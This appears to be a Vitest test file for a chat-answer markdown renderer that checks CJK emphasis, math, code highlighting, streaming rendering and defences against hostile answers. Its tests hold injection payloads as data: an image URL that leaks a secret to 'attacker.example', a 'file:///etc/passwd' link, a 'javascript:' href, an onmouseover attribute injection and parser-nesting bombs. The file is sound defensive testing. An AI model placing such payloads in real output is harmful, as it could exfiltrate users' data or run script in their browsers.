// @vitest-environment jsdom
// jsdom, not happy-dom: its HTML parser puts <math> in the MathML namespace as browsers do.
import { describe, expect, it } from "vitest";
import { IncrementalRenderer, MAX_BLOCK_TOKENS, markdown, renderFull } from "./markdown";

function dom(html: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

const render = (text: string): HTMLElement => dom(renderFull(text));

describe("CJK emphasis (markdown-it-cjk-friendly)", () => {
  it.each([
    ["这是**重要的。**后文", "重要的。"],
    ["**真，**她", "真，"],
    ["前文**「引用」**后文", "「引用」"],
    ["**强调**后文", "强调"],
    ["注意*斜体。*后文", "斜体。"],
  ])("renders %s with emphasis", (text, inner) => {
    const el = render(text);
    const strong = el.querySelector("strong, em");
    expect(strong?.textContent).toBe(inner);
    expect(el.textContent).not.toContain("*");
  });
});

describe("blocks", () => {
  it("renders headings, lists, quotes, tables with alignment as classes", () => {
    const el = render("# 标题\n\n- a\n- b\n\n> quote\n\n| x | y |\n|:-:|--:|\n| 1 | 2 |\n");
    expect(el.querySelector("h1")?.textContent).toBe("标题");
    expect(el.querySelectorAll("li")).toHaveLength(2);
    expect(el.querySelector("blockquote")?.textContent?.trim()).toBe("quote");
    expect(el.querySelector("th")?.className).toBe("ernie-align-center");
    expect(el.querySelector("td:last-child")?.className).toBe("ernie-align-right");
    expect(el.querySelector("[style]")).toBeNull();
  });

  it("turns single newlines into line breaks (chat answers mean them)", () => {
    expect(render("line 1\nline 2").querySelector("br")).not.toBeNull();
  });

  it("does not resolve reference-style links (a late definition would change frozen blocks)", () => {
    const el = render("See [docs][d].\n\n[d]: https://example.com\n");
    expect(el.querySelector("a")).toBeNull();
    expect(el.textContent).toContain("[d]: https://example.com");
  });

  it("leaves bare URLs as text (linkify off)", () => {
    expect(render("visit https://example.com now").querySelector("a")).toBeNull();
  });
});

describe("links", () => {
  it("allows http, https, mailto and anchors with rel and target", () => {
    const el = render("[a](https://a.example) [b](http://b.example) [m](mailto:x@y.z) [h](#top)");
    const links = Array.from(el.querySelectorAll("a"));
    expect(links.map((a) => a.getAttribute("href"))).toEqual(["https://a.example", "http://b.example", "mailto:x@y.z", "#top"]);
    for (const a of links) {
      expect(a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
      expect(a.getAttribute("target")).toBe("_blank");
    }
  });

  it("keeps relative and unknown-scheme links as text", () => {
    const el = render("[r](/api/contents) [f](file:///etc/passwd) [t](tel:123)");
    expect(el.querySelector("a")).toBeNull();
    expect(el.textContent).toContain("[r](/api/contents)");
  });
});

describe("images are never loaded", () => {
  it("renders a remote image as a button carrying its URL and alt text", () => {
    const el = render("![架构图](https://attacker.example/p.png?q=secret)");
    expect(el.querySelector("img")).toBeNull();
    const button = el.querySelector("button.ernie-image-blocked");
    expect(button?.textContent).toBe("架构图");
    expect(button?.getAttribute("data-src")).toBe("https://attacker.example/p.png?q=secret");
  });

  it("keeps non-http image URLs as plain text", () => {
    const el = render("![x](data:image/png;base64,AAAA) ![y](/files/a.png)");
    expect(el.querySelector("img, button")).toBeNull();
  });
});

describe("code", () => {
  it("highlights supported languages and keeps the code text", () => {
    const el = render("```python\ndef f(x):\n    return x  # hi\n```\n");
    const code = el.querySelector("pre.ernie-code > code");
    expect(code?.className).toBe("language-python hljs");
    expect(code?.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(code?.textContent).toBe("def f(x):\n    return x  # hi\n");
  });

  it.each(["py", "js", "ts", "typescript", "bash", "sh", "shell", "json", "sql", "yaml", "html", "diff"])("supports %s", (lang) => {
    expect(render("```" + lang + "\nx\n```").querySelector("code")?.classList.contains("hljs")).toBe(true);
  });

  it("escapes unknown languages and sanitizes the language name", () => {
    const el = render('```cobol" onmouseover="x\n<b>not bold</b>\n```');
    const code = el.querySelector("code");
    expect(code?.getAttribute("onmouseover")).toBeNull();
    expect(code?.textContent).toBe("<b>not bold</b>\n");
    expect(el.querySelector("b")).toBeNull();
  });
});

describe("math (KaTeX, MathML output)", () => {
  it.each([
    ["inline $", "Euler: $e^{i\\pi}+1=0$.", false],
    ["inline \\(", "Euler: \\(e^{i\\pi}+1=0\\).", false],
    ["block $$", "$$\n\\int_0^1 x\\,dx\n$$", true],
    ["block \\[", "\\[\n\\sum_{k=1}^n k\n\\]", true],
    ["one-line $$", "$$a^2+b^2=c^2$$", true],
  ])("typesets %s", (_name, text, display) => {
    const el = render(text);
    const math = el.querySelector("math");
    expect(math).not.toBeNull();
    expect(math?.namespaceURI).toBe("http://www.w3.org/1998/Math/MathML");
    expect(math?.getAttribute("display") === "block").toBe(display);
    expect(el.querySelector("annotation")?.getAttribute("encoding")).toBe("application/x-tex");
  });

  it("leaves prices alone", () => {
    const el = render("It costs $5 and $10, or $3.50.");
    expect(el.querySelector("math")).toBeNull();
    expect(el.textContent?.trim()).toBe("It costs $5 and $10, or $3.50.");
  });

  it("shows the TeX source of an unclosed block", () => {
    const el = render("$$\n\\frac{a}{");
    expect(el.querySelector("math")).toBeNull();
    expect(el.querySelector("pre.ernie-math-source")?.textContent).toBe("$$\n\\frac{a}{");
  });

  it("renders TeX errors inline instead of throwing", () => {
    const el = render("bad: $\\frac{1}{$ end");
    expect(el.textContent).toContain("end");
  });

  it("refuses KaTeX's trusted commands (\\href, \\url)", () => {
    const el = render("$\\href{javascript:alert(1)}{x}$ $\\url{https://e.com}$");
    expect(el.querySelector("[href]")).toBeNull();
  });
});

describe("IncrementalRenderer", () => {
  const sync = { schedule: (f: () => void) => f() };

  it("freezes finished blocks: their DOM nodes are kept while the tail re-renders", () => {
    const el = document.createElement("div");
    const r = new IncrementalRenderer(el, sync);
    r.push("# One\n\nfirst para");
    const h1 = el.querySelector("h1");
    r.push("graph\n\nsecond");
    expect(el.querySelector("h1")).toBe(h1);
    const firstPara = el.querySelector("p");
    r.push(" para\n\nthird");
    expect(el.querySelector("p")).toBe(firstPara);
    r.finish();
    expect(el.innerHTML).toBe(renderFull("# One\n\nfirst paragraph\n\nsecond para\n\nthird"));
  });

  it("schedules at most one render per frame", () => {
    const el = document.createElement("div");
    const queued: Array<() => void> = [];
    const r = new IncrementalRenderer(el, { schedule: (f) => queued.push(f) });
    r.push("a");
    r.push("b");
    r.push("c");
    expect(queued).toHaveLength(1);
    expect(el.innerHTML).toBe("");
    queued[0]();
    expect(el.textContent?.trim()).toBe("abc");
  });

  it("reports each frozen block once to onCommit", () => {
    const el = document.createElement("div");
    const committed: string[] = [];
    const r = new IncrementalRenderer(el, { ...sync, onCommit: (nodes) => committed.push(nodes.map((n) => n.tagName).join()) });
    r.push("para\n\n```py\nx = 1\n```\n");
    expect(committed).toEqual(["P"]);
    r.push("\naft");
    expect(committed).toEqual(["P"]); // the line after the fence is not complete yet
    r.push("er\n");
    expect(committed).toEqual(["P", "PRE"]);
    r.finish();
    expect(committed).toEqual(["P", "PRE", "P"]);
  });

  it("does not freeze a block whose follower's first line is still incomplete", () => {
    // "#" alone is an empty heading that ends the paragraph; "#x" would continue the paragraph.
    const el = document.createElement("div");
    const r = new IncrementalRenderer(el, sync);
    r.push("para\n#");
    r.push("x");
    r.finish();
    expect(el.innerHTML).toBe(renderFull("para\n#x"));
    expect(el.querySelector("h1")).toBeNull();
  });

  it("handles a table delimiter row completed by the next chunk", () => {
    const el = document.createElement("div");
    const r = new IncrementalRenderer(el, sync);
    r.push("x\na|b\n- |");
    r.push("-\n");
    r.finish();
    expect(el.innerHTML).toBe(renderFull("x\na|b\n- |-\n"));
  });

  it("joins a CRLF split across chunks", () => {
    const el = document.createElement("div");
    const r = new IncrementalRenderer(el, sync);
    r.push("a\r");
    r.push("\nb");
    r.finish();
    expect(r.text).toBe("a\nb");
    expect(el.innerHTML).toBe(renderFull("a\r\nb"));
  });

  it("replace() appends when the new text extends the old, otherwise re-renders", () => {
    const el = document.createElement("div");
    const r = new IncrementalRenderer(el, sync);
    r.push("# Title\n\nhello");
    const h1 = el.querySelector("h1");
    r.replace("# Title\n\nhello world");
    expect(el.querySelector("h1")).toBe(h1);
    r.replace("something else");
    expect(el.querySelector("h1")).toBeNull();
    r.finish();
    expect(el.innerHTML).toBe(renderFull("something else"));
  });

  it("keeps the tail's nodes when finish() renders them identically", () => {
    const el = document.createElement("div");
    const r = new IncrementalRenderer(el, sync);
    r.push("only paragraph");
    const p = el.querySelector("p");
    r.finish();
    expect(el.querySelector("p")).toBe(p);
  });
});

describe("hostile answers cannot hide text, break the chat or reach the Jupyter server", () => {
  it("links must be absolute http(s) with a host: 'http:hit' and 'http:/logout' would hit the page's origin", () => {
    for (const href of ["http:hit", "http:/logout", "https:api/kernels", "http:\\\\evil.example", "https://"]) {
      const a = render(`[x](${href}) after`).querySelector("a");
      expect(a?.getAttribute("href") ?? null, href).toBeNull();
    }
    expect(render("[x](https://example.com/a?b#c)").querySelector("a")?.getAttribute("href")).toBe("https://example.com/a?b#c");
    expect(render("[x](mailto:a@example.com)").querySelector("a")?.getAttribute("href")).toBe("mailto:a@example.com");
  });

  it("math nested deeper than KaTeX can recurse shows its source and the rest of the answer", () => {
    const bomb = "\\(" + "{".repeat(2400) + "x" + "}".repeat(2400) + "\\)";
    let html = "";
    expect(() => (html = renderFull(`before ${bomb} after-the-bomb`))).not.toThrow();
    const el = dom(html);
    expect(el.textContent).toContain("after-the-bomb");
    expect(el.textContent).toContain("before");
  });

  it("thousands of unclosed delimiters stay text, all of it", () => {
    for (const text of ["$1".repeat(30_000), "a \\\\(".repeat(20_000), "$$" + "x".repeat(9_000) + "$$"]) {
      const el = render(text + " END");
      expect(el.textContent?.trim().endsWith("END")).toBe(true);
      expect(el.querySelector("math")).toBeNull();
    }
  });

  it("searching for closers stays linear when the same answer is parsed again (a restored transcript)", () => {
    // The closer memo once compared the text with `===`: equal strings from another render (streamed, then
    // restored) cost the whole text per delimiter, "$1" × 30,000 took 150–300 ms. For 16n quadratic is ×256 (measured
    // ×130–170) and linear ×16–30: the bound is a ratio of the best of five runs, not a time.
    const md = markdown();
    const cost = (text: string): number => {
      md.parse(text, {});
      const again = (" " + text).slice(1); // equal, another string
      let best = Infinity;
      for (let i = 0; i < 5; i++) {
        const start = performance.now();
        md.parse(again, {});
        best = Math.min(best, performance.now() - start);
      }
      return best;
    };
    for (const unit of ["$1", "\\("]) {
      cost(unit.repeat(2_500)); // warm up
      const small = cost(unit.repeat(2_500));
      const large = cost(unit.repeat(40_000));
      expect(large, `${unit}: ${small.toFixed(1)} ms → ${large.toFixed(1)} ms`).toBeLessThan(64 * small + 2);
    }
  });

  it("a block of more elements than MAX_BLOCK_TOKENS is its text, all of it; a long real table still renders", () => {
    const spans = "`a` ".repeat(MAX_BLOCK_TOKENS / 2 + 10) + "<b>END</b>";
    const el = render(`before\n\n${spans}\n\nafter **bold**`);
    expect(el.querySelector(".ernie-render-fallback")?.textContent).toContain("`a` `a`");
    expect(el.textContent).toContain("<b>END</b>");
    expect(el.querySelector("b")).toBeNull();
    expect(el.querySelectorAll("code").length).toBe(0);
    expect(el.querySelector("strong")?.textContent).toBe("bold"); // the blocks around it render as before
    const table = "| a | b |\n|---|---|\n" + "| `x` | **y** |\n".repeat(300);
    expect(render(table).querySelectorAll("tr").length).toBe(301);
  });

  it("inline math is found as before", () => {
    expect(render("a $x^2$ b \\(y\\) c").querySelectorAll("math").length).toBe(2);
    expect(render("costs $5 and $10").querySelector("math")).toBeNull();
    expect(render("$a\\$b$ c").querySelectorAll("math").length).toBe(1);
  });
});

describe("past the parser's nesting limit the rest of the answer is still shown", () => {
  it("fifty list markers on one line do not swallow what follows", () => {
    for (const bomb of ["- ".repeat(50) + "deep", "> ".repeat(120) + "deep", "1. ".repeat(60) + "deep"]) {
      const el = render(`${bomb}\n\nAFTER-THE-BOMB and more`);
      expect(el.textContent).toContain("AFTER-THE-BOMB");
      expect(el.textContent).toContain("deep");
    }
  });

  it("streamed in pieces, the tail after the bomb appears too", async () => {
    const host = document.createElement("div");
    const r = new IncrementalRenderer(host, { schedule: (fn: () => void) => fn() });
    const text = "- ".repeat(50) + "deep\n\nAFTER-THE-BOMB";
    for (let i = 0; i < text.length; i += 7) r.push(text.slice(i, i + 7));
    r.finish();
    expect(host.textContent).toContain("AFTER-THE-BOMB");
  });

  it("ordinary nesting is untouched", () => {
    expect(render("- a\n  - b\n    - c").querySelectorAll("ul").length).toBe(3);
  });
});
